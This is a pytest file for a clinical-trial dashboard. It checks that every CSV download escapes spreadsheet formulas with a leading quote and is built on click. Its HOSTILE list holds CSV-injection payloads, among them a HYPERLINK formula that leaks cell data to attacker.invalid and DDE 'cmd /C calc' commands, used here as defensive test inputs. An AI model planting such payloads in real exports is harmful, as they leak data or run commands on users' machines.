"""CSV downloads (issue 17): cells that a spreadsheet would run as a formula are neutralised in
every download (OWASP: a leading '), numbers stay numbers, and every download's file is made on
click (deferred), never at page load, through the real app in AppTest."""
from __future__ import annotations

import csv
import io

import duckdb
import polars as pl
import pytest

from pages.common import csv_bytes, neutralise_formulas, pages_for
from tests.app_fixtures import build_warehouse, page_opener, record_downloads, write_run_log, write_users

HOSTILE = ['=HYPERLINK("http://attacker.invalid/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


def rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))


def test_formula_starts_get_a_leading_quote_and_other_cells_are_unchanged():
    df = pl.DataFrame({"term": [*HOSTILE, "\tx", "\rx", "＝1", "ok", "a=b", "2-3", None],
                       "n": [-8, -1, 0, 1, 2, 3, 4, 5, 6, 7, 8],
                       "x": [-2.5] * 11})
    out = neutralise_formulas(df)
    assert out["term"].to_list() == ["'" + t for t in HOSTILE] + ["'\tx", "'\rx", "'＝1", "ok", "a=b",
                                                                  "2-3", None]
    assert out.schema == df.schema                      # numeric columns stay numeric
    assert out["n"].to_list() == df["n"].to_list() and out["x"].to_list() == df["x"].to_list()
    parsed = rows(csv_bytes(df))
    assert [r["term"] for r in parsed[:4]] == ["'" + t for t in HOSTILE]
    assert [r["n"] for r in parsed[:2]] == ["-8", "-1"] and parsed[0]["x"] == "-2.5"


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory):
    """The hand-built warehouse with formula-like text in the listings, built once for the
    module: the pages only read it (each test's access log is its own)."""
    tmp_path = tmp_path_factory.mktemp("hostile")
    wh = build_warehouse(tmp_path / "trial.duckdb")
    write_run_log(wh)
    con = duckdb.connect(str(wh))
    for seq, (usubjid, term) in enumerate(zip(
            ["jRCTs031230358-01-001", "jRCTs031230358-01-001", "jRCTs031230358-02-001"], HOSTILE)):
        con.execute("UPDATE adam.adae SET AETERM = ? WHERE USUBJID = ? AND AESEQ = ?",
                    [term, usubjid, 1 if usubjid.endswith("02-001") else seq + 1])
    con.execute("UPDATE adam.dq_warnings SET DETAIL = ?", [HOSTILE[3]])
    con.close()
    return wh, write_users(tmp_path / "users.toml")


def test_every_csv_download_of_the_app_neutralises_formulas(hostile_files, tmp_path, monkeypatch):
    wh, users = hostile_files
    open_page = page_opener(wh, users, tmp_path / "access.log", monkeypatch)
    made = record_downloads(monkeypatch)
    open_page("safety", "pi")
    listing = rows(made["adverse_events.csv"]())
    assert sorted(r["AETERM"] for r in listing) == sorted("'" + t for t in HOSTILE[:3])
    assert [r["AETERM"] for r in rows(made["serious_adverse_events.csv"]())] == ["'" + HOSTILE[2]]
    open_page("data_quality", "data")
    assert [r["DETAIL"] for r in rows(made["consistency_warnings.csv"]())] == ["'" + HOSTILE[3]]
    open_page("efficacy", "pi")
    change = rows(made["change_from_week0.csv"]())
    assert [(r["CHG"], r["BASE"], r["AVAL"]) for r in change] == [("-8.0", "10.0", "2.0")]


@pytest.mark.parametrize("page", pages_for("pi"))
def test_every_download_is_made_on_click_not_when_the_page_loads(hostile_files, tmp_path,
                                                                 monkeypatch, page):
    wh, users = hostile_files
    open_page = page_opener(wh, users, tmp_path / "access.log", monkeypatch)
    made = record_downloads(monkeypatch)
    at = open_page(page, "pi")
    assert len(at.get("download_button")) > 0
    assert {n for n, d in made.items() if isinstance(d, tuple)} == set()   # nothing made at once
    assert all(b.proto.deferred_file_id and not b.proto.url for b in at.get("download_button"))
    # no download reruns the page (pages/common.download), the committee packet's included
    assert all(b.proto.ignore_rerun for b in at.get("download_button"))
